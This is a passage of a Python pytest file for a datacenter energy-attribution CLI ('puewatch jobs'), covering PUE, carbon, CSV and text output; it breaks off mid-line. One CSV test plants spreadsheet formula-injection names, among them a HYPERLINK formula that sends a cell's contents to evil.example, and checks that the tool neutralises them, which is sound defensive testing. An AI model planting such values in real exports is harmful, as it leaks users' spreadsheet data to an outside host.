"""`puewatch jobs`: ledger records and the collector's per-cell energies written into a real
embedded store (and a real influxd 1.6.7), attributed through the CLI; both identities checked
at the same boundary, the cell rule recomputed here from the stored cells."""

from __future__ import annotations

import csv
import io
import json
import re
import math
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest

from servers import Influxd, http
from puewatch.collector.stores.embedded import EmbeddedStore
from puewatch.collector.stores.influx1 import Influx1Store
from puewatch.core import schema
from puewatch.core.timefmt import NS
from puewatch.lineprotocol import encode_point

T0 = 1767225600 * NS  # 2026-01-01T00:00:00Z
SUB = 10 * NS  # the collector's cells
HOURS = 1
N_SUB = HOURS * 360
EF = 0.5  # kg CO2e per kWh: a test value, not a real factor
SITE = """
[collector]
site = "lab"
interval_s = 10.0
state_dir = "{state}"

[meters.incomer]
role = "facility_input"
measurement = "modbus"
tags = {{ meter = "incomer" }}
field = "energy_wh"
unit = "Wh"
register = true

[meters.ups-a]
role = "it"
point = "ups_output"
zone = "hall-a"
measurement = "modbus"
tags = {{ meter = "ups-a" }}
field = "energy_wh"
unit = "Wh"
register = true

[meters.crac-a]
role = "cooling"
zone = "hall-a"
measurement = "modbus"
tags = {{ meter = "crac-a" }}
field = "energy_wh"
unit = "Wh"
register = true

[meters.ups-x]
role = "it"
point = "ups_output"
measurement = "modbus"
tags = {{ meter = "ups-x" }}
field = "energy_wh"
unit = "Wh"
register = true

[meters.pv]
role = "renewable"
measurement = "modbus"
tags = {{ meter = "pv" }}
field = "energy_wh"
unit = "Wh"
register = true

[zones.hall-a]
nodes = ["gpu-a-*"]
"""
CARBON = """
region = "test-grid"

[[emission_factor]]
region = "test-grid"
year = 2026
kg_co2e_per_kwh = 0.5
source = "test value, not a published factor"

[[green_energy]]
kind = "certificate"
id = "GEC-TEST-1"
start = 2026-01-01
end = 2026-01-02
mwh = 0.024
"""


def _cells(rng: np.random.Generator) -> dict[str, np.ndarray]:
    """Per collector cell: hall-a IT and boundary, IT outside the zones, E_DC, renewable."""
    it_a = rng.uniform(800, 1200, N_SUB)
    cool_a = rng.uniform(200, 300, N_SUB)
    it_x = rng.uniform(100, 200, N_SUB)
    losses = rng.uniform(50, 80, N_SUB)
    return {"it_a": it_a, "b_a": it_a + cool_a, "it_x": it_x, "it": it_a + it_x,
            "e_dc": it_a + cool_a + it_x + losses, "pv": rng.uniform(0, 100, N_SUB)}


def _lines(c: dict[str, np.ndarray]) -> bytes:
    out = []
    c = {k: v.tolist() for k, v in c.items()}
    ends = T0 + SUB * np.arange(1, N_SUB + 1)
    for i, t in enumerate(ends.tolist()):
        if 96 <= i < 102:  # a minute (cell 16) of hall-a's energies never stored: its cell has no factor
            pass
        else:
            out.append(encode_point(*schema.zone_energy("lab", "hall-a"),
                                    {"boundary_wh": c["b_a"][i], "it_wh": c["it_a"][i]}, t))
        out.append(encode_point(*schema.site_energy("lab", 1),
                                {"facility_input_wh": c["e_dc"][i], "it_wh": c["it"][i], "renewable_wh": c["pv"][i]}, t))
    # The ledger: per minute. gpu-a-1 GPU 0: job 11 (tenant t1); GPU 1 shared by job 12 (t2) and 13 (t1);
    # gpu-x-1's host share: job 14 (t2), its minutes ending at :30 (split over two cells).
    for m in range(1, 60 * HOURS + 1):
        t = T0 + m * 60 * NS
        recs = [("gpu-a-1", "0", "0", "11", "t1", t, 4.0, 1.0, 1.0, False),
                ("gpu-a-1", "1", "0", "12", "t2", t, 2.0, 0.5, 0.6, True),
                ("gpu-a-1", "1", "1", "13", "t1", t, 1.0, 0.5, 0.4, True)]
        if m < 60 * HOURS:
            recs.append(("gpu-x-1", "host", "0", "14", "t2", t + 30 * NS, 0.0, 3.0, 1.0, False))
        for node, gpu, slot, job, tenant, tt, gpu_wh, host_wh, share, shared in recs:
            out.append(encode_point(schema.JOB_LEDGER, {"node": node, "gpu": gpu, "slot": slot},
                                    {"job": job, "tenant": tenant, "source": "static",
                                     "gpu_model": "" if gpu == "host" else "NVIDIA H100 80GB HBM3",
                                     "interval_s": 60.0, "gpu_wh": gpu_wh, "gpu_wh_estimated": False, "share": share,
                                     "shared": shared, "reserved_idle": False, "host_wh": host_wh,
                                     "host_estimated": True}, tt))
    # A record with a negative energy: left out and counted.
    out.append(encode_point(schema.JOB_LEDGER, {"node": "gpu-a-2", "gpu": "0", "slot": "0"},
                            {"job": "15", "tenant": "t1", "gpu_model": "x", "interval_s": 60.0, "gpu_wh": -1.0,
                             "host_wh": 0.0}, T0 + 120 * NS))
    return "\n".join(out).encode() + b"\n"


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, np.ndarray], Path]:
    root = tmp_path_factory.mktemp("jobs")
    conf = root / "collector.toml"
    conf.write_text(SITE.format(state=root / "state"))
    cells = _cells(np.random.default_rng(16))
    store = EmbeddedStore(root / "store.sqlite")
    store.write(_lines(cells))
    store.close()
    (root / "carbon.toml").write_text(CARBON)
    return conf, cells, root


def _jobs(conf: Path, store: str, *extra: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "puewatch.cli", "jobs", "--config", str(conf), "--store", store,
                           "--from", "2026-01-01T00:00:00Z", "--to", f"2026-01-01T0{HOURS}:00:00Z", *extra],
                          capture_output=True, text=True, timeout=300)


def _doc(conf: Path, store: str, *extra: str) -> dict:
    r = _jobs(conf, store, "--json", *extra)
    assert r.returncode == 0, r.stderr
    return json.loads(r.stdout)


def _jobs_of(tmp_path: Path, cells: dict[str, np.ndarray]) -> tuple[dict, dict[str, np.ndarray]]:
    """`puewatch jobs --json` over SITE with these collector cells (and _lines' ledger) stored, and the
    cells summed per minute (the attribution cell)."""
    conf = tmp_path / "collector.toml"
    conf.write_text(SITE.format(state=tmp_path / "state"))
    store = EmbeddedStore(tmp_path / "store.sqlite")
    store.write(_lines(cells))
    store.close()
    return _doc(conf, str(tmp_path / "store.sqlite")), {k: v.reshape(-1, 6).sum(axis=1) for k, v in cells.items()}


def _jobs_of_tenant(tmp_path: Path, tenant: str) -> dict:
    """`puewatch jobs --json --tenant` over the store _jobs_of wrote in tmp_path."""
    return _doc(tmp_path / "collector.toml", str(tmp_path / "store.sqlite"), "--tenant", tenant)


def _expected_factor(c: dict[str, np.ndarray]) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """Per 60 s cell: hall-a's factor, the no-zone factor, and the green share (the cell rule, from the stored cells)."""
    m = {k: v.reshape(-1, 6).sum(axis=1) for k, v in c.items()}
    rest = m["e_dc"] - m["b_a"] - m["it_x"]
    f_a = m["b_a"] / m["it_a"] + rest / m["it"]
    f_a[16] = math.nan  # hall-a's minute that was never stored
    f_x = 1 + rest / m["it"]
    f_x[16] = math.nan  # a cell is known only with every zone's energies
    certificate_wh = 24_000 * 60 / 86400
    green = np.minimum(m["pv"] + certificate_wh, m["e_dc"]) / m["e_dc"]
    return f_a, f_x, green


def test_jobs_identities_cell_rule_green_and_carbon(site: tuple[Path, dict, Path]) -> None:
    conf, cells, root = site
    doc = _doc(conf, str(root / "store.sqlite"), "--carbon", str(root / "carbon.toml"))
    f_a, f_x, green = _expected_factor(cells)
    jobs = {j["job"]: j for j in doc["jobs"]}
    assert sorted(jobs) == ["11", "12", "13", "14"]
    ok = np.isfinite(f_a)
    # Job 11: 5 Wh a minute in hall-a, cell for cell.
    j = jobs["11"]
    assert j["tenant"] == "t1" and j["it_energy_wh"] == pytest.approx(300.0)
    assert j["gpu_hours"] == pytest.approx(1.0) and j["gpu_hours_by_model"] == {"NVIDIA H100 80GB HBM3": pytest.approx(1.0)}
    assert j["facility_energy_wh"] == pytest.approx(5.0 * f_a[ok].sum(), rel=1e-9)
    assert j["completeness"] == pytest.approx(59 / 60)
    assert j["pue"] == pytest.approx(f_a[ok].mean(), rel=1e-9)
    assert j["estimated_share"] == pytest.approx(1 / 5)  # its host share is an estimate
    assert j["green_energy_wh"] == pytest.approx(5.0 * (f_a * green)[ok].sum(), rel=1e-9)
    assert j["carbon_kg"] == pytest.approx(5.0 * (f_a * (1 - green))[ok].sum() * EF / 1000, rel=1e-9)
    # Shared GPU: GPU-hours by share.
    assert jobs["12"]["gpu_hours"] == pytest.approx(0.6) and jobs["13"]["gpu_hours"] == pytest.approx(0.4)
    # Job 14, host share on a node in no zone, minutes ending at :30: half of each in two cells.
    j = jobs["14"]
    assert j["gpu_hours"] == 0 and j["it_energy_wh"] == pytest.approx(59 * 3.0)
    per_cell = np.full(60, 3.0)
    per_cell[0] = per_cell[-1] = 1.5
    known = np.isfinite(f_x)
    assert j["facility_energy_wh"] == pytest.approx((per_cell * f_x)[known].sum(), rel=1e-9)
    # Tenants: the totals of their jobs.
    tenants = {t["tenant"]: t for t in doc["tenants"]}
    assert tenants["t1"]["jobs"] == 2
    assert tenants["t1"]["it_energy_wh"] == pytest.approx(jobs["11"]["it_energy_wh"] + jobs["13"]["it_energy_wh"])
    assert tenants["t2"]["facility_energy_wh"] == pytest.approx(
        jobs["12"]["facility_energy_wh"] + jobs["14"]["facility_energy_wh"], rel=1e-12)
    # The identities, at one boundary: the known cells.
    i = doc["identities"]
    m = {k: v.reshape(-1, 6).sum(axis=1) for k, v in cells.items()}
    assert i["cells"] == 60 and i["cells_known"] == 59
    assert i["measured_it_energy_wh"] == pytest.approx(m["it"][ok].sum(), rel=1e-12)
    assert i["e_dc_wh"] == pytest.approx(m["e_dc"][ok].sum(), rel=1e-12)
    assert i["jobs_it_energy_wh"] + i["unattributed_it_energy_wh"] == pytest.approx(i["measured_it_energy_wh"], rel=1e-12)
    assert (i["jobs_facility_energy_wh"] + i["unattributed_facility_energy_wh"]
            == pytest.approx(i["e_dc_wh"], rel=1e-12))
    assert i["jobs_facility_energy_wh"] == pytest.approx(sum(j["facility_energy_wh"] for j in doc["jobs"]), rel=1e-12)
    # CUE (ISO/IEC 30134-8) and the green share of the site, with the factor's source.
    s = doc["site_totals"]
    assert s["emission_factors"] == [{"region": "test-grid", "year": 2026, "kg_co2e_per_kwh": EF,
                                      "source": "test value, not a published factor"}]
    grid_wh = (m["e_dc"] * (1 - green))[ok].sum()
    assert s["cue_kg_per_kwh"] == pytest.approx(grid_wh * EF / 1000 / (m["it"][ok].sum() / 1000), rel=1e-9)
    assert s["green_share"] == pytest.approx((m["e_dc"] * green)[ok].sum() / m["e_dc"][ok].sum(), rel=1e-9)
    assert any("1 records left out: gpu_wh negative" in w for w in doc["warnings"])


def test_a_zone_whose_it_meters_saw_nothing_gives_its_jobs_the_sites_overhead(tmp_path: Path) -> None:
    # In minute 20 hall-a's IT meters measured 0 (stored: the cell is known) while its cooling ran
    # and job 11 held 5 Wh there. The zone has no pPUE in that cell (its boundary energy is in the
    # site's overhead), so its nodes take the no-zone factor: the job still carries the overhead,
    # the zone's unattributed energy is negative and a warning says so. (It once lost the job's
    # energy in that cell from its facility energy, in the tenant's favour, without a word.)
    cells = _cells(np.random.default_rng(16))
    sub = slice(120, 126)  # minute 20's collector cells
    cells["it"][sub] -= cells["it_a"][sub]
    cells["e_dc"][sub] -= cells["it_a"][sub]
    cells["b_a"][sub] -= cells["it_a"][sub]
    cells["it_a"][sub] = 0.0
    doc, m = _jobs_of(tmp_path, cells)
    has_it = m["it_a"] > 0
    rest = m["e_dc"] - np.where(has_it, m["b_a"], 0.0) - m["it_x"]  # minute 20: hall-a's boundary is overhead
    f_x = 1 + rest / m["it"]
    with np.errstate(divide="ignore", invalid="ignore"):
        f_a = np.where(has_it, m["b_a"] / m["it_a"] + rest / m["it"], f_x)
    f_a[16] = math.nan
    assert not has_it[20] and has_it.sum() == 59 and np.isfinite(f_a[20])
    ok = np.isfinite(f_a)
    j = {j["job"]: j for j in doc["jobs"]}["11"]
    assert j["completeness"] == pytest.approx(59 / 60)  # only minute 16, never stored, is missing
    assert j["facility_energy_wh"] == pytest.approx(5.0 * f_a[ok].sum(), rel=1e-9)
    hall = {z["zone"]: z for z in doc["unattributed"]["by_zone"]}["hall-a"]
    jobs_a_wh = (4.0 + 1.0) + (2.0 + 0.5) + (1.0 + 0.5)  # jobs 11, 12 and 13 on gpu-a-1: GPU + host, a minute
    assert hall["it_energy_wh"] == pytest.approx((m["it_a"][ok] - jobs_a_wh).sum(), rel=1e-9)
    assert any("in 1 zone-cells the jobs' IT energy exceeds the measured IT energy" in w for w in doc["warnings"])
    i = doc["identities"]
    assert i["jobs_it_energy_wh"] + i["unattributed_it_energy_wh"] == pytest.approx(i["measured_it_energy_wh"], rel=1e-12)
    assert i["jobs_facility_energy_wh"] + i["unattributed_facility_energy_wh"] == pytest.approx(i["e_dc_wh"], rel=1e-12)
    assert i["e_dc_wh"] == pytest.approx(m["e_dc"][ok].sum(), rel=1e-12)


def test_cells_whose_meters_contradict_physics_are_not_known_and_no_factor_is_under_1(tmp_path: Path) -> None:
    # Four minutes whose meters contradict each other, each a ratio below its physical floor
    # (core.floors): 30, the incomer stuck (E_DC 0: PUE under 1); 31, hall-a's boundary below its
    # IT (pPUE under 1); 32, the incomer below hall-a's boundary plus the IT outside the zones
    # (R < 0: the no-zone factor, job 14's, under 1); 33, the same with no IT outside the zones,
    # so only the no-zone row, which no meter measured there, has no factor. Cells 30-32 are not
    # known (their energy is not attributed: completeness); 33 is, for hall-a; no job's PUE or
    # facility energy is below its floor, a warning names the cells and the meters, and the
    # identities hold. (Before: job PUE -0.67 and 0.75, signed into statements, without a word.)
    cells = _cells(np.random.default_rng(30))
    sub = {m: slice(6 * m, 6 * m + 6) for m in (30, 31, 32, 33)}
    cells["e_dc"][sub[30]] = 0.0
    cells["b_a"][sub[31]] = 0.9 * cells["it_a"][sub[31]]
    cells["e_dc"][sub[32]] = cells["b_a"][sub[32]] + cells["it_x"][sub[32]] - 20.0
    cells["it"][sub[33]] -= cells["it_x"][sub[33]]
    cells["it_x"][sub[33]] = 0.0
    cells["e_dc"][sub[33]] = cells["b_a"][sub[33]] - 20.0
    doc, m = _jobs_of(tmp_path, cells)
    # The rule, recomputed from the stored cells (m: per minute).
    rest = m["e_dc"] - m["b_a"] - m["it_x"]
    f_a = m["b_a"] / m["it_a"] + rest / m["it"]
    f_x = 1 + rest / m["it"]
    known = np.ones(60, bool)
    known[[16, 30, 31, 32]] = False
    assert m["e_dc"][30] < m["it"][30] and m["b_a"][31] < m["it_a"][31] and f_x[32] < 1 <= f_a[32]
    assert f_x[33] < 1 <= f_a[33] and m["it_x"][33] == 0  # cell 33 known; its no-zone row has no factor
    f_a, f_x = np.where(known, f_a, math.nan), np.where(known & (f_x >= 1), f_x, math.nan)
    jobs = {j["job"]: j for j in doc["jobs"]}
    j11 = jobs["11"]
    assert j11["completeness"] == pytest.approx(56 / 60)
    assert j11["facility_energy_wh"] == pytest.approx(5.0 * np.nansum(f_a), rel=1e-9)
    # Job 14: 3 Wh a minute in no zone, each record half in one cell and half in the next.
    fx = np.array([f_x[c] for mm in range(1, 60) for c in (mm - 1, mm)])
    assert jobs["14"]["facility_energy_wh"] == pytest.approx(1.5 * np.nansum(fx), rel=1e-9)
    assert jobs["14"]["completeness"] == pytest.approx(np.isfinite(fx).sum() / fx.size)
    for row in [*doc["jobs"], *doc["tenants"], doc["site_totals"]]:
        assert row["pue"] is None or row["pue"] >= 1, row
        assert row["facility_energy_wh"] is None or row["facility_energy_wh"] >= 0, row
    warning = next(w for w in doc["warnings"] if "below their physical floor" in w)
    assert warning.startswith("3 of 60 cells (the first 2026-01-01T00:30:00Z..2026-01-01T00:31:00Z)"), warning
    assert "PUE under 1 (E_DC below E_IT) in 1 (meters incomer, ups-a, ups-x)" in warning
    assert "zone hall-a's pPUE under 1 (its boundary below its IT) in 1 (meters crac-a, ups-a)" in warning
    assert "for nodes in no zone in 1 (meters" in warning
    # Cell 33 is known, but job 14's 3 Wh there (two half records) have no factor: said, not only shown in its
    # completeness (found by the independent jobs audit).
    lost = next(w for w in doc["warnings"] if w.startswith("jobs' IT energy of"))
    assert lost.startswith("jobs' IT energy of 3.0 Wh in 1 known cells (the first 2026-01-01T00:33:00Z.."
                           "2026-01-01T00:34:00Z) is on rows with no factor there: nodes in no zone in 1 "), lost
    # Under --tenant, of that tenant's jobs alone (job 14 is t2's; t1 has none in no zone).
    assert any(w.startswith("jobs' IT energy of 3.0 Wh") for w in _jobs_of_tenant(tmp_path, "t2")["warnings"])
    assert not any(w.startswith("jobs' IT energy of") for w in _jobs_of_tenant(tmp_path, "t1")["warnings"])
    i = doc["identities"]
    assert i["cells_known"] == 56
    assert i["jobs_it_energy_wh"] + i["unattributed_it_energy_wh"] == pytest.approx(i["measured_it_energy_wh"], rel=1e-12)
    assert i["jobs_facility_energy_wh"] + i["unattributed_facility_energy_wh"] == pytest.approx(i["e_dc_wh"], rel=1e-12)
    assert i["e_dc_wh"] == pytest.approx(m["e_dc"][known].sum(), rel=1e-12)


def test_jobs_tenant_csv_and_text(site: tuple[Path, dict, Path]) -> None:
    conf, _cells, root = site
    doc = _doc(conf, str(root / "store.sqlite"), "--tenant", "t2")
    assert {j["job"] for j in doc["jobs"]} == {"12", "14"} and [t["tenant"] for t in doc["tenants"]] == ["t2"]
    assert doc["site_totals"]["carbon_kg"] is None and any("no emission factor" in w for w in doc["warnings"])
    r = _jobs(conf, str(root / "store.sqlite"), "--csv")
    assert r.returncode == 0, r.stderr
    rows = r.stdout.splitlines()
    assert rows[0].startswith("kind,tenant,job,gpu_models,gpu_hours")
    assert sum(row.startswith("job,") for row in rows) == 4 and sum(row.startswith("tenant,") for row in rows) == 2
    r = _jobs(conf, str(root / "store.sqlite"))
    assert r.returncode == 0 and "identities over 59 of 60 cells" in r.stdout


def test_jobs_csv_reads_back_as_written_adds_up_to_the_site_and_runs_no_formula(site: tuple[Path, dict, Path],
                                                                                 tmp_path: Path) -> None:
    """Found by the jobs audit: job and tenant names (a job's environment sets them: SLURM_JOB_ACCOUNT) went
    into the CSV raw, so a name beginning with = ran as a formula in the spreadsheet an operator opened it
    in, and a CR in a name was not quoted (the row split in two); the CSV had no unattributed energy, no
    site totals and no period, so its rows could not be checked against anything, and its warnings (a
    mistyped --tenant, records left out) were nowhere."""
    from puewatch.jobs.cli import CSV_COLUMNS

    conf, cells, _root = site
    # (A CR, which the collector's line protocol parser takes in a string and puewatch's encoder refuses,
    # is put in after encoding.)
    names = [('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd"), ("-2+3", "@SUM(1)"), ("cr", "t<CR>z"),
             ("q", 'acme, "inc"')]
    extra = [encode_point(schema.JOB_LEDGER, {"node": "gpu-a-3", "gpu": str(g), "slot": "0"},
                          {"job": job, "tenant": tenant, "source": "static", "gpu_model": "NVIDIA H100 80GB HBM3",
                           "interval_s": 60.0, "gpu_wh": 2.0, "gpu_wh_estimated": False, "share": 1.0, "shared": False,
                           "reserved_idle": False, "host_wh": 0.5, "host_estimated": False}, T0 + m * 60 * NS)
             for g, (job, tenant) in enumerate(names) for m in range(1, 61)]
    store = EmbeddedStore(tmp_path / "store.sqlite")
    store.write(_lines(cells) + ("\n".join(extra) + "\n").replace("<CR>", "\r").encode())
    store.close()
    doc = _doc(conf, str(tmp_path / "store.sqlite"))
    out = tmp_path / "jobs.csv"
    r = _jobs(conf, str(tmp_path / "store.sqlite"), "--csv", "-o", str(out))
    assert r.returncode == 0, r.stderr
    text = out.read_bytes().decode()
    assert text.endswith("\r\n") and text.count("\r\n") == text.count("\n")  # CRLF line ends
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == list(CSV_COLUMNS) and all(len(row) == len(CSV_COLUMNS) for row in rows)
    rows = [dict(zip(CSV_COLUMNS, row)) for row in rows[1:]]
    jobs = {row["job"]: row for row in rows if row["kind"] == "job"}
    # Formulas are text (a leading '); the other names read back exactly as the JSON has them.
    assert jobs["'" + names[0][0]]["tenant"] == "'+cmd" and jobs["'-2+3"]["tenant"] == "'@SUM(1)"
    assert jobs["cr"]["tenant"] == "t\rz" and jobs["q"]["tenant"] == 'acme, "inc"'
    assert not any(v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values() if not v[:1].isdigit())
    assert {row["site"] for row in rows} == {"lab"} and {row["period_start"] for row in rows} == {doc["period_start"]}
    assert json.loads(jobs["11"]["gpu_hours_by_model"]) == doc["jobs"][0]["gpu_hours_by_model"] == {
        "NVIDIA H100 80GB HBM3": pytest.approx(1.0)}
    # The rows add up: the jobs and the unattributed energy to the site's measured IT and E_DC (the identities).
    (unattributed,) = [row for row in rows if row["kind"] == "unattributed"]
    (site_row,) = [row for row in rows if row["kind"] == "site"]
    # Of the IT energy, the part in known cells (it_energy_known_wh): a job's it_energy_wh also holds its energy
    # in the cell without facility data, which the site's measured IT does not (the audit found the jobs' IT
    # column 84 Wh over the site's, where the docs said the rows add up).
    for col, total in (("it_energy_known_wh", "measured_it_energy_wh"), ("facility_energy_wh", "e_dc_wh")):
        jobs_sum = sum(float(row[col] or 0.0) for row in jobs.values())
        assert jobs_sum + float(unattributed[col]) == pytest.approx(float(site_row[col]), rel=1e-12)
        assert float(site_row[col]) == pytest.approx(doc["identities"][total], rel=1e-15)
    assert sum(j["it_energy_known_wh"] for j in doc["jobs"]) == pytest.approx(doc["identities"]["jobs_it_energy_wh"], rel=1e-12)
    assert any(float(row["it_energy_known_wh"]) < float(row["it_energy_wh"]) for row in jobs.values())
    assert float(site_row["it_energy_known_wh"]) == float(site_row["it_energy_wh"])
    assert site_row["pue"] and float(site_row["pue"]) == pytest.approx(doc["site_totals"]["pue"], rel=1e-15)
    assert site_row["carbon_kg"] == "" and doc["site_totals"]["carbon_kg"] is None  # unknown: empty, never 0
    # The warnings the JSON carries are on standard error.
    assert doc["warnings"] and all(f"warning: {w}" in r.stderr for w in doc["warnings"] if "\n" not in w)
    r = _jobs(conf, str(tmp_path / "store.sqlite"), "--csv", "--tenant", "nobody")
    assert r.returncode == 0 and "tenant 'nobody' has no ledger record in the period" in r.stderr
    # Bad arguments: a clear error, no traceback; --max-gap means nothing to jobs (they read cells) and is refused.
    for bad in (("--cell", "inf"), ("--cell", "1e300"), ("--max-gap", "5")):
        r = _jobs(conf, str(tmp_path / "store.sqlite"), *bad)
        assert r.returncode == 2 and "Traceback" not in r.stderr and ("--cell" in r.stderr or "--max-gap" in r.stderr)


def test_a_gpu_claimed_twice_over_is_said_and_a_record_of_two_hours_is_read_across_the_end(
        site: tuple[Path, dict, Path], tmp_path: Path) -> None:
    """Found by the jobs audit: two jobs each claiming all of one GPU in the same minutes, or a series whose
    records overlap (120 s records every 60 s), were each billed in full, with no word (the excess came out
    of the unattributed energy); a record of 7200 s (a GPU's interval that went on while its next energy reading
    came late) ending 90 min after the period was not read (the reader looked an hour ahead)."""
    conf, cells, _root = site

    def rec(gpu: str, job: str, m: int, interval_s: float, share: float = 1.0) -> str:
        return encode_point(schema.JOB_LEDGER, {"node": "gpu-a-3", "gpu": gpu, "slot": job},
                            {"job": job, "tenant": "t9", "source": "static", "gpu_model": "NVIDIA H100 80GB HBM3",
                             "interval_s": interval_s, "gpu_wh": 2.0, "gpu_wh_estimated": False, "share": share,
                             "shared": False, "reserved_idle": False, "host_wh": 0.0, "host_estimated": False},
                            T0 + m * 60 * NS)

    extra = [rec("0", "P", m, 60.0) for m in range(1, 61)] + [rec("0", "Q", m, 60.0) for m in range(30, 41)]
    extra += [rec("1", "R", m, 120.0) for m in range(2, 61)]  # each overlaps the one before
    extra += [rec("2", "S", m, 60.0, 0.5) for m in range(1, 61)] + [rec("2", "T", m, 60.0, 0.5) for m in range(1, 61)]
    extra += [rec("3", "LONG", 90, 7200.0)]  # half inside the hour, ending 30 min after it: read, half of it
    # Each record 250 ns longer than the minute between their ends (wall-clock ends, monotonic lengths, as a real
    # agent writes them): not overbooked (every real node's GPUs were called counted twice: the Kubernetes audit).
    extra += [rec("4", "U", m, 60.00000025) for m in range(1, 61)]
    store = EmbeddedStore(tmp_path / "store.sqlite")
    store.write(_lines(cells) + ("\n".join(extra) + "\n").encode())
    store.close()
    doc = _doc(conf, str(tmp_path / "store.sqlite"))
    said = [w for w in doc["warnings"] if "whose shares sum above 1" in w]
    # P's and Q's minutes 30-40 (22 records), and R's 59 records (each overlaps a neighbour); S and T share
    # GPU 2 by halves: not overbooked.
    assert said == ["job ledger: 81 records hold 2 GPU(s) with others whose shares sum above 1 (two jobs each "
                    "claiming one GPU whole, or a GPU's records overlapping; the first: node 'gpu-a-3' GPU '1' at "
                    "2026-01-01T00:01:00Z): their GPU-hours and energy are counted more than once, and the "
                    "unattributed energy is that much lower"], doc["warnings"]
    (long,) = [j for j in doc["jobs"] if j["job"] == "LONG"]  # read across the period's end (it was not)
    assert long["gpu_hours"] == pytest.approx(1.0) and long["gpu_energy_wh"] == pytest.approx(1.0)
    assert not [w for w in _doc(conf, str(_root / "store.sqlite"))["warnings"] if "sum above 1" in w]


def _shown_job(job: str) -> str:
    return "'" + job if job.startswith(("=", "+", "-", "@")) else job


def _columns_shown(text: str) -> int:
    """Terminal columns of `text`, counted here independently of puewatch.terminal.width: East Asian wide and
    fullwidth 2, combining marks 0."""
    import unicodedata

    return sum(0 if unicodedata.combining(c) else 2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in text)


def test_jobs_text_aligns_names_of_wide_characters_by_display_width(site: tuple[Path, dict, Path]) -> None:
    """Found by an outside audit: a tenant named 算力券 (each character two columns wide) pushed the rest of its
    line three columns right of the header's (f-string widths count characters). Every column of the text
    table now ends (numbers) or starts (names) at the same terminal column on every line, whatever the names
    hold: CJK, an emoji, a combining accent, one wider than the column's usual width, a control character."""
    from puewatch.jobs.cli import _text

    conf, _cells, root = site
    doc = _doc(conf, str(root / "store.sqlite"))
    names = {"t1": "算力券", "t2": "team-🚀"}
    jobs = ["训练任务-7", "cafe\u0301-job", "超级计算中心算力券长作业名称", "a\x1bb"]
    for r, job in zip(doc["jobs"], jobs):
        r["job"] = job
    for r in [*doc["jobs"], *doc["tenants"]]:
        r["tenant"] = names.get(r["tenant"], r["tenant"])
    lines = _text(doc).splitlines()
    head = lines.index(next(x for x in lines if x.startswith("tenant ")))
    rows = [x for x in lines[head + 1:head + 2 + len(doc["jobs"]) + len(doc["tenants"])] if x != "per tenant:"]
    assert len(rows) == len(doc["jobs"]) + len(doc["tenants"]) == 6
    assert any("算力券" in x for x in rows) and any("🚀" in x for x in rows) and "a\\x1bb" in "".join(rows)

    def ends(line: str) -> list[int]:
        """The terminal column at which each space-separated field of `line` ends."""
        out, col = [], 0
        for i, c in enumerate(line):
            col += _columns_shown(c)
            if c != " " and (i + 1 == len(line) or line[i + 1] == " "):
                out.append(col)
        return out

    job_start = lines[head].index("job")  # the header is ASCII: characters are columns
    gpu_h_end = lines[head].index("GPU-h") + len("GPU-h")
    co2_end = lines[head].index("kg CO2e") + len("kg CO2e")
    for x in rows:
        tenant, rest = x.split(" ", 1)
        assert _columns_shown(x[:x.index(rest.lstrip())]) == job_start, x
        fields = ends(x)
        assert gpu_h_end in fields and co2_end in fields, (x, fields, gpu_h_end, co2_end)


def test_bad_carbon_file_is_one_line(site: tuple[Path, dict, Path], tmp_path: Path) -> None:
    conf, _cells, root = site
    bad = tmp_path / "carbon.toml"
    bad.write_text('region = "g"\n[[emission_factor]]\nregion = "g"\nyear = 2026\nkg_co2e_per_kwh = 0.4\nsource = ""\n')
    r = _jobs(conf, str(root / "store.sqlite"), "--carbon", str(bad))
    assert r.returncode == 2 and "emission_factor[0].source: give where the factor comes from" in r.stderr
    assert "Traceback" not in r.stderr


@pytest.mark.parametrize("entry,words", [
    # Found by the input audit: inf MWh gave a green share of 100 % and no carbon, and JSON no reader takes.
    ("mwh = inf", "green_energy[0].mwh: expected a finite number, got inf"),
    ("mwh = nan", "green_energy[0].mwh: expected a finite number, got nan"),
    ("mwh = 1e300", "green_energy[0].mwh: expected 0 to 1e+07 MWh (one certificate or PPA), got 1e+300"),
])
def test_a_green_entry_of_no_possible_size_is_refused(tmp_path: Path, entry: str, words: str) -> None:
    from puewatch.errors import UserError
    from puewatch.jobs.carbon import load_carbon

    path = tmp_path / "carbon.toml"
    path.write_text(f'region = "g"\n[[green_energy]]\nkind = "certificate"\nid = "c1"\nstart = 2025-01-01\n'
                    f'end = 2025-02-01\n{entry}\n')
    with pytest.raises(UserError, match=re.escape(f"{path}: {words}")):
        load_carbon(path)
    # Bytes that are not UTF-8 (a traceback), and a byte order mark (refused as bad TOML), as every TOML file.
    path.write_bytes(b"\xff\xfe r")
    with pytest.raises(UserError, match="not UTF-8 text"):
        load_carbon(path)
    path.write_bytes(b"\xef\xbb\xbfregion = \"g\"\n")
    assert load_carbon(path).region == "g"
    # A table where an array of tables is meant (its keys were read as entries: "unknown key 'e'").
    path.write_text('region = "g"\n[emission_factor]\nregion = "g"\nyear = 2025\nkg_co2e_per_kwh = 0.5\nsource = "x"\n')
    with pytest.raises(UserError, match=re.escape(f"{path}: emission_factor: must be an array of tables, "
                                                  "[[emission_factor]] (one per entry), not a table")):
        load_carbon(path)


def test_influxd_agrees_with_embedded(site: tuple[Path, dict, Path], tmp_path: Path) -> None:
    conf, cells, root = site
    server = Influxd(tmp_path / "influxd")
    server.start()
    try:
        assert http("POST", server.url + "/query?q=CREATE+DATABASE+site")[0] == 200
        store = Influx1Store(server.url, "site")
        store.write(_lines(cells))
        store.close()
        influx = _doc(conf, server.url + "/site")
        # [store.influx2]: read through the v1 compatibility API with the token (influxd 1.6.7 without auth ignores it).
        conf2 = tmp_path / "collector2.toml"
        token = tmp_path / "token"
        token.write_text("t\n")
        conf2.write_text(conf.read_text() + f'\n[store.influx2]\nurl = "{server.url}"\nbucket = "site"\norg = "o"\n'
                         f'token_file = "{token}"\n')
        r = subprocess.run([sys.executable, "-m", "puewatch.cli", "jobs", "--config", str(conf2), "--json",
